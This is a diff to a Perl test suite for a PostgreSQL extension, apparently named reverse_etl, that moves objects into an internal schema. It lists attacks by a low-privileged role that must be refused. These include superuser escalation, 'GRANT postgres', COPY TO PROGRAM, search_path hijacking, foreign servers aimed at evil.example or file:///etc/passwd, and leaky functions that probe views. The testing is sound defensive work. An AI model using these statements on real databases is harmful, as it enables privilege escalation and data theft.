@@ -39,7 +39,7 @@ my @tries = (
     q(INSERT INTO eve.deferred VALUES (1)), q(SET CONSTRAINTS ALL DEFERRED), q(LOAD 'eve'), q(COMMIT), q(ROLLBACK),
     q(COPY eve.deferred TO PROGRAM 'cat'), q(ALTER SYSTEM SET work_mem = 64), q(SECURITY LABEL ON ROLE eve IS 'x'),
     q(CREATE EVENT TRIGGER eve ON ddl_command_end EXECUTE FUNCTION eve.on_event()),
-    q(ALTER FUNCTION reverse_etl.begin_run(integer, name, integer) OWNER TO eve),
+    q(ALTER FUNCTION reverse_etl_internal.begin_run(integer, name, integer) OWNER TO eve),
     q(ALTER TABLE reverse_etl.runs OWNER TO eve), q(GRANT postgres TO eve), q(GRANT zoe TO eve),
     q(SELECT set_config('search_path', 'eve, pg_catalog', false)), q(SET search_path = eve, pg_catalog),
 );
@@ -114,7 +114,8 @@ my @keys = (
 
 # What she may not do, and is told so.
 my @refused = (
-    q(SELECT reverse_etl.execute_as(10, 'ALTER ROLE eve SUPERUSER')), q(SELECT reverse_etl.drop_sync_as(10, 'zoes')),
+    q(SELECT reverse_etl_internal.execute_as(10, 'ALTER ROLE eve SUPERUSER')), q(SELECT reverse_etl_internal.drop_sync_as(10, 'zoes')),
+    q(SELECT reverse_etl_internal.wake_worker()), q(SELECT reverse_etl_internal.make_sync_tables(1)),
     q(CREATE FUNCTION eve.mine_as() RETURNS void LANGUAGE c AS '$libdir/reverse_etl', 'reverse_etl_hand_on'),
     (map { "CREATE FOREIGN TABLE eve.away (email text) SERVER inhouse OPTIONS ($_); INSERT INTO eve.away VALUES ('x'); DROP FOREIGN TABLE eve.away" }
         q(path '@evil.example/x'), q(path ':80@evil.example/'), q(path 'http://evil.example/'), q(path 'file:///etc/passwd'),
@@ -123,19 +124,20 @@ my @refused = (
     q(CREATE SERVER evil FOREIGN DATA WRAPPER reverse_etl OPTIONS (connector 'http', base_url 'file:///etc')),
     q(ALTER SERVER inhouse OPTIONS (SET base_url 'http://evil.example')), q(DROP USER MAPPING FOR PUBLIC SERVER inhouse),
     q(CREATE USER MAPPING FOR zoe SERVER inhouse), q(CREATE USER MAPPING FOR eve SERVER inhouse OPTIONS (base_url 'http://evil.example')),
-    (map { "SELECT reverse_etl.$_" } q(pause('inhouse')), q(resume('inhouse')), q(pause('zoe.d')), q(drop_sync('zoes')),
+    (map { "SELECT reverse_etl.$_" } q(pause_server('inhouse')), q(resume_server('inhouse')), q(pause('zoe.d')), q(drop_sync('zoes')),
         q(alter_sync('zoes', query => 'SELECT 1')), q(stream_table('zoe.src', 'eve.plain')), q(stream_sync('plain', 'zoe.src', '')),
         q(retry('zoe.d')), q(mend(0, '{}')), q(cancel_run(ZOES)), q(release_run(ZOES)), q(unstream_table('zoes')), q(stat_reset()),
-        q(confirm_identity()), q(wake_worker()), q(create_connector('evil', '{}')), q(make_sync_tables(1)),
+        q(confirm_identity()), q(create_connector('evil', '{}')),
         q(create_sync('evil', 'SELECT * FROM zoe.src', 'eve.plain', '{email}')),
         q(create_sync('evil', 'SELECT email, name FROM eve.src', 'zoe.d', '{email}')),
         q(create_sync('evil', 'SELECT email, name FROM eve.src', 'eve.plain', '{email}', alert_to => 'zoe.d'))),
-    (map { ("BEGIN; LOCK TABLE reverse_etl.$_ IN ROW SHARE MODE", "CREATE TABLE eve.holds (r reverse_etl.$_)",
-            "CREATE FUNCTION eve.holds(reverse_etl.$_) RETURNS integer LANGUAGE sql AS 'SELECT 1'", "SELECT * FROM reverse_etl.$_ FOR KEY SHARE") }
-        qw(runs streams sync_definitions outbox pauses)),
+    (map { ("BEGIN; LOCK TABLE $_ IN ROW SHARE MODE", "CREATE TABLE eve.holds (r $_)",
+            "CREATE FUNCTION eve.holds($_) RETURNS integer LANGUAGE sql AS 'SELECT 1'", "SELECT * FROM $_ FOR KEY SHARE") }
+        map({ "reverse_etl.$_" } qw(runs streams outbox pauses)), 'reverse_etl_internal.sync_definitions'),
+    q(CREATE TABLE reverse_etl_internal.mine ()), q(CREATE TABLE reverse_etl.mine ()),
     q(CREATE TABLE eve.child () INHERITS (reverse_etl.outbox)), q(CREATE TABLE eve.fk (id bigint REFERENCES reverse_etl.runs)),
     q(CREATE TRIGGER t AFTER INSERT ON reverse_etl.runs EXECUTE FUNCTION suppress_redundant_updates_trigger()),
-    q(SELECT * FROM reverse_etl.outbox_requests), q(SELECT nextval('reverse_etl.outbox_id_seq')),
+    q(SELECT * FROM reverse_etl_internal.outbox_requests), q(SELECT nextval('reverse_etl_internal.outbox_id_seq')),
     q(ALTER EVENT TRIGGER reverse_etl_guard_drop DISABLE), q(ALTER EXTENSION reverse_etl DROP TABLE reverse_etl.runs), q(DROP EXTENSION reverse_etl),
 );
 
@@ -202,7 +204,7 @@ nobody_was_caught('by the process that pushes alerts');
 said_by_eve(<<~SQL);
     SELECT FROM reverse_etl.create_sync('sleeps', 'SELECT email, pg_sleep(600)::text AS name FROM eve.src', 'eve.plain', '{email}', search_path => 'pg_catalog')
     SQL
-$node->safe_psql('postgres', q(UPDATE reverse_etl.sync_definitions SET requested_at = now() WHERE name = 'sleeps'; SELECT reverse_etl.wake_worker()));
+$node->safe_psql('postgres', q(UPDATE reverse_etl_internal.sync_definitions SET requested_at = now() WHERE name = 'sleeps'; SELECT reverse_etl_internal.wake_worker()));
 wait_until(sub { $node->safe_psql('postgres', q(SELECT count(*) FROM reverse_etl.runs WHERE sync = 'sleeps' AND status = 'reading')) });
 runner_runs('zoes');
 my $hers = q(FROM pg_stat_activity WHERE backend_type = 'reverse_etl sync runner' AND wait_event = 'PgSleep');
@@ -231,7 +233,7 @@ for my $key (@keys) {
 }
 
 # Whatever way it may be found by.
-like((outcome($node, q(SELECT reverse_etl.execute_as('eve'::regrole, 'CREATE TABLE eve.made AS SELECT eve.own()'))))[1], qr/ERROR:  42501: function own is no superuser's/,
+like((outcome($node, q(SELECT reverse_etl_internal.execute_as('eve'::regrole, 'CREATE TABLE eve.made AS SELECT eve.own()'))))[1], qr/ERROR:  42501: function own is no superuser's/,
     'a statement of the machine runs no function of hers');
 
 my $zoes_run = $node->safe_psql('postgres', q(SELECT max(id) FROM reverse_etl.runs WHERE sync = 'zoes'));
@@ -241,7 +243,7 @@ for my $sql (map { s/ZOES/$zoes_run/r } @refused) {
 
 # Functions of hers that are asked before the conditions of a view or a policy would tell what is behind them.
 said_by_eve(q(CREATE FUNCTION eve.look(text) RETURNS boolean COST 0.0000001 LANGUAGE plpgsql AS 'BEGIN RAISE WARNING ''saw %'', $1; RETURN true; END'));
-for my $relation (split /\n/, $node->safe_psql('postgres', q(SELECT oid::regclass FROM pg_class WHERE relnamespace = 'reverse_etl'::regnamespace
+for my $relation (split /\n/, $node->safe_psql('postgres', q(SELECT oid::regclass FROM pg_class WHERE relnamespace = ANY ('{reverse_etl,reverse_etl_internal}'::regnamespace[])
         AND relkind IN ('r', 'v') AND has_table_privilege('eve', oid, 'SELECT')))) {
     my $saw = '';
     $node->psql('postgres', "SELECT count(*) FROM $relation AS r WHERE eve.look(r::text)", stderr => \$saw, extra_params => ['--username=eve']);
@@ -424,8 +426,8 @@ sub runner_runs {
     my $last  = $node->safe_psql('postgres', 'SELECT COALESCE(max(id), 0) FROM reverse_etl.runs');
     $node->safe_psql('postgres', <<~SQL);
         UPDATE zoe.src SET name = name || 'z';
-        UPDATE reverse_etl.sync_definitions SET requested_at = now() WHERE name IN ($names);
-        SELECT reverse_etl.wake_worker()
+        UPDATE reverse_etl_internal.sync_definitions SET requested_at = now() WHERE name IN ($names);
+        SELECT reverse_etl_internal.wake_worker()
         SQL
     wait_until(sub { $node->safe_psql('postgres', "$runs $last AND status IN ('completed', 'failed', 'held')") == @names });
     is($node->safe_psql('postgres', "SELECT status, accepted FROM reverse_etl.runs WHERE sync = 'zoes' ORDER BY id DESC LIMIT 1"),
